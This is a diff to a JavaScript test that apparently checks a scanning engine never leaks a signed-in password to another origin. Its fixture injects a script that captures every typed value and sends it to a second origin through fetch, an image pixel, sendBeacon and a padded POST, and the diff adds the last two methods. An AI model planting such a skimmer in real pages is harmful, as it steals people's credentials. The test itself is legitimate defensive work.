@@ -125,6 +125,8 @@ test("never sends the password to another origin, even if the form or a script d
   const head = `<script>document.addEventListener("input", ({ target }) => {
     fetch("${other.origin}/typed", { method: "POST", mode: "no-cors", body: target.value });
     new Image().src = "${other.origin}/pixel?" + encodeURIComponent(target.value);
+    navigator.sendBeacon("${other.origin}/blob", new Blob([target.value]));
+    fetch("${other.origin}/long", { method: "POST", mode: "no-cors", body: target.value + "x".repeat(100_000) });
   });</script>`;
   const { site, attempts } = await serveMembers(serve, { head });
   await scanSignedIn(engine, site.origin, formAt(site.origin), quick);
